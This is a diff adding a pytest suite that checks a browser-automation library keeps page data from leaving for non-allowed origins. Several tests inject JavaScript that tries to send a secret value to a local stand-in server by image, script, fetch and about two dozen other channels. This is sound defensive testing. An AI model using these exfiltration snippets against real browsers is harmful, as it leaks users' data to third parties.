@@ -1,0 +1,193 @@
+"""Nothing of a page goes anywhere but to the allowed origins, whichever way it tries; what was blocked is told."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from contextlib import suppress
+from pathlib import Path
+
+import pytest
+
+from foreword.browser import Browser, Rules
+from foreword.errors import BrowserFailed, UsageError
+from tests.attacks import AT_LENGTH, sample
+from tests.browser.channels import (
+    CHANNELS,
+    FIRST,
+    LEAVING,
+    SECRET,
+    UNGUARDED,
+    UNHEARD,
+    Elsewhere,
+    Home,
+    elsewhere,
+    home,
+)
+from tests.browser.working import in_the_page, until, users_own
+
+pytestmark = pytest.mark.attack
+
+TRIED = CHANNELS if AT_LENGTH else FIRST
+HOSTS = ("127.0.0.1", "127.0.0.2", "::1", "localhost")
+
+
+@pytest.fixture(scope="module")
+def allowed() -> Iterator[Home]:
+    with home() as served:
+        yield served
+
+
+@pytest.fixture
+def away() -> Iterator[Elsewhere]:
+    with elsewhere() as place:
+        yield place
+
+
+@pytest.fixture(scope="module")
+def named(allowed: Home, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    rules = Rules((allowed.url,), action_seconds=2, page_seconds=6)
+    with Browser.start(rules, folder=tmp_path_factory.mktemp("profiles")) as browser:
+        yield browser
+
+
+def attempt(browser: Browser, served: Home, channel: str, tab: str | None = None) -> None:
+    """Open the page that tries a channel, and wait until it has."""
+    served.done.clear()
+    with suppress(BrowserFailed):  # a page that goes elsewhere is refused
+        browser.navigate(f"{served.url}/channel/{channel}", tab=tab)
+    until(lambda: channel in served.done or channel in LEAVING)
+
+
+@pytest.mark.parametrize("host", sample(HOSTS, 1))
+def test_nothing_of_a_page_goes_anywhere_but_to_the_allowed_origins(
+    named: Browser, allowed: Home, away: Elsewhere, host: str
+) -> None:
+    allowed.away = away.origin(host)
+    for channel in TRIED:
+        attempt(named, allowed, channel)
+    named.navigate("about:blank")
+
+    assert away.reached == []
+
+
+@pytest.mark.skipif(not AT_LENGTH, reason="it shows that the attempts are real, which does not change from run to run")
+def test_each_of_these_ways_leads_out_where_all_origins_are_allowed(
+    allowed: Home, away: Elsewhere, tmp_path: Path
+) -> None:
+    allowed.away = away.origin("127.0.0.1")
+    with Browser.start(Rules(("*",), page_seconds=6), folder=tmp_path) as browser:
+        for channel in [channel for channel in CHANNELS if channel not in UNHEARD]:
+            away.reached.clear()
+            attempt(browser, allowed, channel, tab="Main Tab")
+            browser.navigate("about:blank", tab="Main Tab")
+            until(lambda: away.reached)
+
+
+def test_what_was_blocked_is_told_by_origin_and_kind_and_without_a_word_of_its_address(
+    named: Browser, allowed: Home, away: Elsewhere
+) -> None:
+    origin = away.origin("127.0.0.1")
+    named.navigate(allowed.url)
+    in_the_page(
+        named,
+        f"""async () => {{ for (const kind of ['a', 'b']) new Image().src = `{origin}/${{kind}}?{SECRET}`;
+        const script = document.createElement('script'); script.src = '{origin}/{SECRET}.js';
+        document.head.append(script); await fetch('{origin}/{SECRET}').catch(() => 0) }}""",
+    )
+    told: list[str] = []
+
+    def is_told() -> bool:
+        told.extend(named.extract("h1").get("blocked", []))
+        return "script" in str(told)
+
+    until(is_told)
+
+    assert any(f"to {origin} (" in line and f"--assets {origin}" in line for line in told)
+    (found,) = [one for one in named.blocked() if one.origin == origin]
+    assert (found.requests, found.kinds) == (4, ("fetch", "image", "script"))
+    assert SECRET not in str(told)
+    assert "blocked" not in named.extract("h1")
+
+
+def test_a_page_that_asks_a_thousand_others_is_told_of_in_a_few_lines(named: Browser, allowed: Home) -> None:
+    named.navigate(allowed.url)
+    in_the_page(
+        named,
+        "() => Promise.all([...Array(1000).keys()].map(n => fetch(`http://${'x'.repeat(60)}${n}.example/`)"
+        ".catch(() => 0))).then(() => 1)",
+    )
+    told = named.extract("h1")["blocked"]
+    assert len(told) <= 11
+    assert told[-1].endswith("origins more")
+    assert len(str(told)) < 3_000
+    assert len(named.blocked()) <= 500
+
+
+def test_pictures_scripts_and_styles_of_an_origin_for_assets_are_loaded_and_nothing_else_of_it(
+    allowed: Home, away: Elsewhere, tmp_path: Path
+) -> None:
+    assets = away.origin("127.0.0.2")
+    allowed.away = assets
+    loaded = ["image", "img", "script", "module", "style", "style-import", "style-font", "preload", "audio"]
+    data = ["fetch-post", "xhr", "beacon", "websocket", "eventsource", "ping", "worker", "service-worker", "prefetch",
+            "iframe", "object", "form", "manifest", "csp-report", "webtransport", "preload-fetch"]  # fmt: skip
+    with Browser.start(Rules((allowed.url,), assets=(assets,), page_seconds=6), folder=tmp_path) as browser:
+        for channel in [*loaded, *data]:
+            attempt(browser, allowed, channel)
+        told = [str(one) for one in browser.blocked()]
+
+    assert {one for one in away.reached if one != "connection"} == set(loaded)
+    assert told
+    assert not any("image" in line for line in told)
+
+
+def test_loopback_is_every_port_of_this_machine_for_all_that_a_page_asks_for(
+    allowed: Home, away: Elsewhere, tmp_path: Path
+) -> None:
+    with Browser.start(folder=tmp_path) as browser:
+        browser.navigate(allowed.url)
+        for host in ("127.0.0.1", "localhost", "::1"):
+            in_the_page(browser, f"() => fetch('{away.origin(host)}/{host[-1]}', {{mode: 'no-cors'}}).then(() => 1)")
+        assert away.reached.count("1") == 2
+        away.reached.clear()
+        in_the_page(browser, f"() => fetch('{away.origin('127.0.0.2')}/', {{mode: 'no-cors'}}).catch(() => 1)")
+        assert away.reached == []
+
+
+@pytest.mark.parametrize("origin", ["loopback", "*"])
+def test_a_server_of_ours_is_out_of_reach_whatever_else_is_allowed(
+    allowed: Home, away: Elsewhere, tmp_path: Path, origin: str
+) -> None:
+    rules = Rules((origin,), own_port=away.port, page_seconds=6)
+    with Browser.start(rules, folder=tmp_path) as browser:
+        for host in sample(("127.0.0.1", "localhost", "::1"), 2):
+            allowed.away = away.origin(host)
+            for channel in ("fetch-post", "websocket", "worker-websocket", "service-worker", "iframe", "open"):
+                attempt(browser, allowed, channel)
+    assert away.reached == []
+
+
+def test_in_the_users_own_browser_every_request_of_our_tabs_is_judged_and_none_of_theirs(
+    allowed: Home, away: Elsewhere, tmp_path: Path
+) -> None:
+    allowed.away = origin = away.origin("127.0.0.1")
+    with (
+        users_own(tmp_path, allowed.url) as address,
+        Browser.attach(address, Rules((allowed.url,), action_seconds=2, page_seconds=6)) as browser,
+    ):
+        users = browser.tabs()[0]["name"]
+        browser.open_tab(allowed.url, name="Ours")
+        for channel in [channel for channel in TRIED if channel not in UNGUARDED]:
+            attempt(browser, allowed, channel, tab="Ours")
+        assert away.reached == []
+
+        in_the_page(browser, f"() => fetch('{origin}/theirs', {{mode: 'no-cors'}}).then(() => 1)", tab=users)
+        assert "theirs" in away.reached
+
+
+@pytest.mark.parametrize("origin", ["https://*.example.com", "https://a;b.example", "https://a,b", "https://a b"])
+def test_an_origin_that_is_a_pattern_or_two_is_refused(origin: str) -> None:
+    with pytest.raises(UsageError, match="is not an origin"):
+        Rules((origin,))
+    with pytest.raises(UsageError, match="is not an origin of assets"):
+        Rules(assets=(origin,))
